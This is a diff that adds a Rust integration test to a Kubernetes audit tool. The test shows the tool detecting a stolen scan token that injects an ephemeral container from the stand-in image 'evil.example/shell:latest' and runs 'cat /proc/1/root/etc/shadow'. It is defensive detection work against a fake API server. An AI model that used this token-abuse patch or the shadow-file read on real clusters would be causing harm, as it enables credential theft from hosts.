@@ -983,3 +983,91 @@ fn the_debug_container_meets_pod_security_restricted() {
     let t = target(&summary, "mixed/via-debug/app");
     assert_eq!(t["status"], "scanned", "{t}\n{}", out.stderr);
 }
+
+/// A stolen scan token adding its own ephemeral container, image and all,
+/// to a pod the run may patch: `vigil audit-check` names the foreign image
+/// from the API server's audit log of a real run.
+#[test]
+fn audit_check_names_a_foreign_ephemeral_image_added_with_the_runs_token() {
+    use k8s_openapi::api::core::v1::Pod;
+    use kube::api::{Api, Patch, PatchParams};
+    let Some(s) = setup() else { return };
+    crate::util::signing_key(s.dir.path());
+    s.server
+        .set_audit_policy(crate::monitor::rendered_audit_policy(s.dir.path()));
+    write_policy(
+        &s,
+        "    - {namespace: mixed, pods: [via-debug], approach: debug}\n    - {namespace: mixed, pods: [via-api], approach: api}\n",
+    );
+    // The api scan is held in flight: the run's Role still stands.
+    s.server.inject(crate::fakeapi::Faults {
+        exec_held: 1,
+        ..Default::default()
+    });
+    let child = Command::new(env!("CARGO_BIN_EXE_vigil"))
+        .args(["run", "p.yaml", "profile.yaml"])
+        .arg(repo().join("policies/profiles"))
+        .args([
+            "--out",
+            "out",
+            "--plaintext",
+            "--signing-key",
+            "signer.key.pem",
+            "--format",
+            "json",
+        ])
+        .current_dir(s.dir.path())
+        .env("KUBECONFIG", &s.server.kubeconfig)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    s.server
+        .wait_for_arrivals(std::time::Duration::from_secs(60), |paths| {
+            paths.iter().any(|p| p.contains("/exec?"))
+        });
+    let token = s.server.issued_tokens().pop().unwrap();
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let status = rt.block_on(async {
+        let kubeconfig = kube::config::Kubeconfig::read_from(&s.server.kubeconfig).unwrap();
+        let mut config = kube::Config::from_custom_kubeconfig(kubeconfig, &Default::default())
+            .await
+            .unwrap();
+        config.auth_info.token = Some(token.into());
+        let pods: Api<Pod> = Api::namespaced(kube::Client::try_from(config).unwrap(), "mixed");
+        let patch = json!({"spec": {"ephemeralContainers": [{
+            "name": "vigil-evil", "image": "evil.example/shell:latest", "targetContainerName": "app",
+            "command": ["/bin/sh", "-c", "cat /proc/1/root/etc/shadow"]
+        }]}});
+        pods.patch_ephemeral_containers("via-debug", &PatchParams::default(), &Patch::Strategic(patch))
+            .await
+            .map(|_| ())
+    });
+    assert!(
+        status.is_ok(),
+        "the run's Role lets its token patch the pod: {status:?}"
+    );
+    s.server.release_held();
+    let out = child.wait_with_output().unwrap();
+    let summary: Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
+    let bundle = s
+        .dir
+        .path()
+        .join("out/mixed")
+        .join(summary[0]["run_id"].as_str().unwrap());
+    let log = s.dir.write("audit.log", s.server.audit_log());
+    let (code, codes, report) = crate::monitor::audit_check_in(s.dir.path(), &bundle, &[&log]);
+    assert_eq!(code, 1);
+    assert!(
+        codes.iter().any(|c| c == "foreign-ephemeral-image"),
+        "{report:#}"
+    );
+    assert!(
+        codes.iter().any(|c| c == "unrecorded-request"),
+        "{report:#}"
+    );
+}
